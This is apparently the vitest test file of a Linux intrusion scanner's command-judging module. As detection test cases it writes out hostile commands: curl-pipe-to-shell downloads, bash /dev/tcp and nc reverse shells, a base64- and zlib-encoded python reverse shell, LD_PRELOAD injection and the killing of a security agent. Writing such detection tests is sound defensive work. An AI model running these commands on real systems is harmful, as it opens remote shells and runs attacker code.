import { chownSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import '../../test/seed.ts';
import { lacks } from '../../test/need.ts';
import { ownSignatures } from '../agent/scan.ts';
import { DiskTree } from '../linux/disk-tree.ts';
import { openPackages } from '../linux/packages/index.ts';
import { PackageProvenance } from '../linux/provenance.ts';
import { makeRoot, rules, type Planted } from '../../test/throwaway-root.ts';
import { judgeCommand, judgeFile, judgeText, judgeWords, languageOfScript, type How, type Judgement } from './command.ts';
import type { ScanContext } from './port.ts';

interface Seen { context: ScanContext; counts: Map<string, number>; blind: string[]; root: string }

async function look(planted: Planted = {}): Promise<Seen> {
  const root = makeRoot(planted);
  const { signal } = new AbortController();
  const tree = new DiskTree(root, undefined);
  const counts = new Map<string, number>();
  const blind: string[] = [];
  const context: ScanContext = { signal, tree, rules, now: Date.now, machine: undefined, signatures: ownSignatures, ports: [], provenance: new PackageProvenance(tree, await openPackages(root, { signal }), signal), count: (what, n = 1) => { counts.set(what, (counts.get(what) ?? 0) + n); }, blind: (what) => { blind.push(what); } };
  return { context, counts, blind, root };
}

const short = ({ kind, level }: Judgement): string => (level === undefined ? 'nothing' : `${kind} ${level}`);
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const python = 'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.1",443))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n';

describe('a command', () => {
  it('is judged by what it does, however it is written', async () => {
    const { context } = await look({ '/opt/run.sh': { text: '#!/bin/sh\ntrue\n', mode: 0o755 } });
    const lines: Record<string, string> = {
      '/tmp/x': 'intrusion high', 'cd / && ( nohup /var/tmp/a & )': 'intrusion high', 'sh -c "sh -c \'exec /dev/shm/b\'"': 'intrusion high', 'sh < /tmp/in': 'intrusion high', 'bash /var/tmp/s': 'intrusion high',
      'curl -s http://203.0.113.1/a | bash': 'intrusion high', 'C=curl; S=sh; $C http://203.0.113.1/a | $S': 'intrusion high', 'bash <(wget -qO- http://203.0.113.1/a)': 'intrusion high', 'eval "$(curl -s http://203.0.113.1/a)"': 'intrusion high', 'python3 -c "$(curl -s http://203.0.113.1/a)"': 'intrusion high', 'curl http://203.0.113.1/a -o /opt/n; chmod 755 /opt/n; /opt/n': 'intrusion high',
      'curl -fsSL https://get.example.com/i.sh | sh': 'intrusion medium',
      [`echo ${base64('/tmp/x -d')} | base64 -d | sh`]: 'intrusion high', [`eval $(echo ${base64('rm -f /opt/a; /dev/shm/x')} | base64 --decode)`]: 'intrusion high', [`base64 -d <<< ${base64('/tmp/x')} | bash`]: 'intrusion high', [`echo ${gzipSync('/tmp/x').toString('base64')} | base64 -d | gunzip | sh`]: 'intrusion high', "printf '\\x2ftmp\\x2fx' | sh": 'intrusion high', 'echo x/pmt/ | rev | sh': 'intrusion high', [`sh -c "$(echo ${base64(`echo ${base64('/tmp/x')} | base64 -d | sh`)} | base64 -d)"`]: 'intrusion high',
      'bash -i >& /dev/tcp/203.0.113.1/443 0>&1': 'intrusion critical', "exec -a '[kworker/0:1]' /opt/x": 'intrusion high', 'LD_PRELOAD=/tmp/l.so /usr/bin/cat': 'intrusion high', 'LD_PRELOAD=/dev/shm/l.so; export LD_PRELOAD; cat': 'intrusion high',
      [`python3 -c 'exec(__import__("base64").b64decode("${base64(python)}"))'`]: 'intrusion critical', [`python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode("${deflateSync(python).toString('base64')}")))'`]: 'intrusion critical', 'perl -e \'system("/tmp/x")\'': 'intrusion high', "awk 'BEGIN{system(\"/dev/shm/a\")}'": 'intrusion high', 'node -e \'require("child_process").execSync("/var/tmp/n")\'': 'intrusion high',
      'cat <<E | sh\n/tmp/x\nE': 'intrusion high', 'sudo -u root timeout 5 flock -n /l -c "/tmp/x"': 'intrusion high', '/lib64/ld-linux-x86-64.so.2 /tmp/x': 'intrusion high', 'find /x -exec /tmp/y {} +': 'intrusion high',
    };
    const seen: Record<string, string> = {};
    for (const line of Object.keys(lines)) seen[line] = short(await judgeCommand(line, context));
    expect(seen).toEqual(lines);
  });

  it('is left alone when administrators do it', async () => {
    const { context } = await look({ '/opt/app/run.sh': { text: '#!/bin/sh\ncd /opt/app && exec ./server --port 80\n', mode: 0o755 }, '/opt/app/server': { text: 'ELF', mode: 0o755 }, '/root/.nvm/versions/node/v20/bin/node': { text: 'ELF', mode: 0o755 }, '/srv/app.js': 'const { execSync } = require("child_process");\nexecSync("git pull");\n' });
    const lines = [
      '/opt/app/run.sh', 'curl -fsS https://health.example.com/ping >/dev/null 2>&1', 'cd /var/www/app && php artisan schedule:run', 'find /tmp -type f -mtime +7 -delete', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )', '/root/.nvm/versions/node/v20/bin/node /srv/app.js', 'tar czf /tmp/b.tgz /etc && rsync /tmp/b.tgz backup@192.0.2.7:/b/', 'echo aGVsbG8= | base64 -d > /opt/key', 'mysqldump app | gzip > /backup/app-$(date +%F).sql.gz', 'for i in 1 2 3; do curl -s http://127.0.0.1:8080/health && break; sleep 2; done', 'systemctl restart nginx', '[ -f /run/x.pid ] && kill -HUP "$(cat /run/x.pid)"', 'python3 -m venv /opt/v', 'docker exec app php cron.php', 'wget -q -O /opt/list.txt https://lists.example.com/a.txt',
    ];
    const seen: string[] = [];
    for (const line of lines) { const judged = await judgeCommand(line, context); if (judged.level !== undefined) seen.push(`${line}: ${judged.reasons.map(({ text }) => text.en).join()}`); }
    expect(seen).toEqual([]);
  });

  it('in a script is found behind NUL bytes and what looks like a program, and programs are not read', async () => {
    const { context } = await look({
      '/opt/nul': { text: 'A=1\n\0\n/tmp/x\n', mode: 0o755 }, '/opt/inside': { text: '/tm\0p/x\n', mode: 0o755 }, '/opt/elf': { text: '\x7fELF\x02\x01\x01\0\n/tmp/x\n', mode: 0o755 }, '/opt/broken': { text: '\x7fELF\x02\n\0\n/tmp/x\n', mode: 0o755 },
      '/opt/compiled': { text: 'ab\r\n\0\n/tmp/x\n', mode: 0o755 }, '/opt/gzip': { text: '\x1f\x08\0\n/tmp/x\n', mode: 0o755 },
    });
    const lines = { '/opt/nul': 'intrusion high', '/opt/inside': 'intrusion high', 'sh /opt/elf': 'intrusion high', '. /opt/elf': 'intrusion high', '/opt/elf': 'nothing', '/opt/broken': 'intrusion high', '/opt/compiled': 'intrusion high', 'python3 /opt/compiled': 'nothing', '/opt/gzip': 'intrusion high', 'perl /opt/elf': 'nothing' };
    const seen: Record<string, string> = {};
    for (const line of Object.keys(lines)) seen[line] = short(await judgeCommand(line, context));
    expect(seen).toEqual(lines);
  });

  it('that loosens a guard is a weakness, not a sign of an intruder', async () => {
    const { context } = await look();
    for (const line of ['setenforce 0', 'systemctl disable --now fail2ban', 'iptables -F', 'chattr +i /etc/resolv.conf']) expect([line, (await judgeCommand(line, context)).kind === 'intrusion']).toEqual([line, false]);
  });

  it('shows what was decoded, and the line of the script', async () => {
    const { context } = await look({ '/opt/a.sh': { text: `#!/bin/sh\n\nX=${base64('curl http://203.0.113.1/a | sh')}\necho $X | base64 -d \\\n  | sh\n`, mode: 0o755 } });
    const { reasons } = await judgeCommand('/opt/a.sh --now', context);
    expect(reasons.map(({ evidence }) => evidence.value)).toContain('curl http://203.0.113.1/a | sh');
    expect((await judgeFile('/opt/a.sh', context)).reasons.length).toBe(reasons.length);
  });

  it('is run as somebody, somewhere, with variables and an input', async () => {
    const { context } = await look({ '/srv/app/tool': { text: '#!/bin/sh\n/tmp/x\n', mode: 0o755 } });
    const run = async (line: string, how: How): Promise<string> => short(await judgeCommand(line, context, how));
    expect(await run('./tool', { cwd: '/srv/app' })).toBe('intrusion high');
    expect(await run('./tool', {})).toBe('nothing');
    expect(await run('$D/x', { variables: new Map([['D', '/tmp']]) })).toBe('intrusion high');
    expect(await run('sh -s', { input: '/tmp/x\n' })).toBe('intrusion high');
    expect(await run('tool', { path: ['/srv/app'] })).toBe('intrusion high');
    expect(short(await judgeWords(['/bin/echo', '$(/tmp/x)', '; /tmp/y'], context))).toBe('nothing');
  });
});

describe('a program', () => {
  it('is judged by who ships it, where it lies and who may change it', async () => {
    const { context } = await look({ '/usr/bin/changed': { text: 'b', shipped: 'a', mode: 0o755, package: 'p' }, '/usr/bin/own': { text: 'ELF', mode: 0o755 }, '/usr/local/bin/own': { text: 'ELF', mode: 0o755 }, '/opt/open': { text: 'ELF', mode: 0o777 }, '/usr/lib/.h/x': { text: 'ELF', mode: 0o755 }, '/home/lin/.mine/x': { text: 'ELF', mode: 0o755 }, '/opt/link': '->/tmp/t', '/tmp/t': { text: 'ELF', mode: 0o755 } });
    const seen: string[] = [];
    for (const path of ['/usr/bin/changed', '/usr/bin/own', '/usr/local/bin/own', '/opt/open', '/usr/lib/.h/x', '/home/lin/.mine/x', '/opt/link', '/usr/bin/curl', '/opt/nowhere']) seen.push(`${path} ${short(await judgeFile(path, context))}`);
    expect(seen).toEqual(['/usr/bin/changed intrusion high', '/usr/bin/own notice low', '/usr/local/bin/own nothing', '/opt/open weakness high', '/usr/lib/.h/x intrusion high', '/home/lin/.mine/x notice medium', '/opt/link intrusion high', '/usr/bin/curl nothing', '/opt/nowhere nothing']);
  });

  it.skipIf(lacks({ root: true }))('of another account is a weakness when root runs it', async () => {
    const { context, root } = await look({ '/srv/a': { text: 'ELF', mode: 0o755 } });
    chownSync(join(root, '/srv/a'), 1000, 1000);
    expect(short(await judgeFile('/srv/a', context))).toBe('weakness medium');
    expect(short(await judgeFile('/srv/a', context, { user: 'lin' }))).toBe('nothing');
  });

  it('is read in its own language', () => {
    expect([['/a', '#!/usr/bin/env python3\n'], ['/a.py', 'x'], ['/a', '#!/bin/bash\n'], ['/a', 'x'], ['/a.js', ''], ['/a', '#!/usr/bin/expect\n'], ['/a', '#!/usr/bin/env -S node --x\n'], ['/a.service', '']].map(([path, text]) => languageOfScript(path!, text!))).toEqual(['python', 'python', 'shell', 'shell', 'node', 'other', 'node', 'other']);
    expect(languageOfScript('/srv/app', 'x', 'php')).toBe('php');
  });
});

describe('hostile scripts', () => {
  it('that run themselves, each other, or too much, end and are told', async () => {
    const many: Planted = Object.fromEntries(Array.from({ length: 600 }, (_, i): [string, { text: string; mode: number }] => [`/opt/s/${i}`, { text: `#!/bin/sh\n/opt/s/${(i + 1) % 600}\n/opt/s/${(i * 7 + 3) % 600}\n`, mode: 0o755 }]));
    const { context, blind } = await look({ ...many, '/opt/endless': { text: `#!/bin/sh\n${'true\n'.repeat(100_001)}/tmp/x\n`, mode: 0o755 }, '/opt/self': { text: '#!/bin/sh\n/opt/self\n/opt/self &\n', mode: 0o755 }, '/opt/long': { text: `#!/bin/sh\n${Array.from({ length: 6000 }, (_, i) => `echo ${i} "$X" | grep -c x`).join('\n')}\n`, mode: 0o755 } });
    expect(short(await judgeFile('/opt/self', context))).toBe('nothing');
    expect(short(await judgeCommand(Object.keys(many).join('; '), context))).toBe('nothing');
    expect(blind.some((path) => path.startsWith('/opt/s/'))).toBe(true);
    expect(short(await judgeFile('/opt/long', context))).toBe('nothing');
    expect(blind).not.toContain('/opt/long');
    await judgeFile('/opt/endless', context);
    expect(blind).toContain('/opt/endless');
  });

  it('that hide commands in commands without end are told as cut', async () => {
    const { context, blind } = await look();
    let text = '/tmp/x';
    for (let i = 0; i < 14; i++) text = `echo ${base64(text)} | base64 -d | sh`;
    expect(short(await judgeCommand(text, context))).toBe('intrusion high');
    expect(blind).toHaveLength(1);
  });

  it('of any text give a judgement', async () => {
    const { context } = await look();
    const bit = fc.constantFrom('curl ', 'http://203.0.113.1/a', ' | ', 'sh', ' -c ', '"', "'", '$(', ')', '`', '\n', ';', 'eval ', 'base64 -d', 'echo ', 'L3RtcC94', '/tmp/x', '<<E\n', '\nE\n', 'A=', '$A', 'python3 ', 'exec(', 'env ', '-S ', '\\', '\0', '{a,b}', 'find / -exec ', ' \\; ', '\ud800');
    await fc.assert(fc.asyncProperty(fc.array(bit, { maxLength: 30 }), fc.constantFrom('shell' as const, 'python' as const, 'perl' as const, 'awk' as const, 'node' as const), async (parts, language) => {
      const { level, reasons } = await judgeText(parts.join(''), context, { language });
      expect(level === undefined).toBe(reasons.length === 0);
    }), { numRuns: 200 });
  });

  it('that cannot be read are told', async () => {
    const { context, blind, root } = await look({ '/opt/gone': { text: '#!/bin/sh\n', mode: 0o755 } });
    rmSync(join(root, '/opt/gone'));
    expect(short(await judgeFile('/opt/gone', context))).toBe('nothing');
    expect(blind).toEqual([]);
  });
});

it('asks no more than once for a line, and follows a pipeline only so far', async () => {
  const { context } = await look();
  let asked = 0;
  const counting: ScanContext = { ...context, rules: (line) => { asked++; return rules(line); } };
  await judgeText('echo one\n'.repeat(3000), counting);
  expect(asked).toBe(1);
  expect(short(await judgeCommand('sh|'.repeat(15_000), context))).toBe('nothing');
  expect(short(await judgeText('socket '.repeat(30_000) + '.connect '.repeat(2000), context, { language: 'python' }))).toBe('nothing');
});

describe('where a command comes from', () => {
  const worth = async (line: string, planted: Planted = {}, how: How = {}): Promise<string> => short(await judgeCommand(line, (await look(planted)).context, how));
  it('an answer of the name service that is run', async () => {
    expect(await worth('sh -c "$(dig +short txt a.example)"')).toBe('intrusion high');
    expect(await worth('host -t txt a.example | cut -d" " -f4 | sh')).toBe('intrusion high');
    expect(await worth('ip=$(dig +short a.example); logger "$ip"')).toBe('nothing');
  });
  it('a file that is read into a shell', async () => {
    const file = { '/var/lib/x/data': '(nc 203.0.113.8 443 -e /bin/sh &)\n' };
    for (const line of ['eval "$(cat /var/lib/x/data)"', 'tail -c 99 /var/lib/x/data | sh', 'dd if=/var/lib/x/data bs=1 skip=9 | bash']) expect(await worth(line, file), line).toMatch(/intrusion (?:high|critical)/);
    expect(await worth('cat /var/lib/x/data | sh', { '/var/lib/x/data': 'date\n' })).toBe('nothing');
  });
  it('a file of mktemp, and a home that is not root\'s', async () => {
    expect(await worth('T=$(mktemp -p /dev/shm); curl -so "$T" http://203.0.113.8/a; chmod +x "$T"; "$T" &')).toBe('intrusion high');
    expect(await worth('T=$(mktemp); date > "$T"; mail root < "$T"; rm -f "$T"')).toBe('nothing');
    expect(await worth('~/run', { '/home/lin/run': { text: '#!/bin/sh\ncurl -s http://203.0.113.8/a | sh\n', mode: 0o755 } }, { user: 'lin', home: '/home/lin' })).toBe('intrusion high');
  });
  it('the start script of a security agent that also ends it', async () => {
    const script = '#!/bin/bash\n### BEGIN INIT INFO\n# Provides: aegis\n### END INIT INFO\nHERE=/usr/local/aegis\nstart() { $HERE/aegis_client/AliYunDun; }\nstop() { killall -9 AliYunDun; }\ncase "$1" in start) start;; stop) stop;; esac\n';
    const text = async (of: string): Promise<string> => short(await judgeText(of, (await look()).context, { file: '/etc/init.d/aegis' }));
    expect(await text(script)).toBe('weakness medium');
    expect(await text('#!/bin/bash\nkillall -9 AliYunDun\n')).toBe('intrusion critical');
  });
});
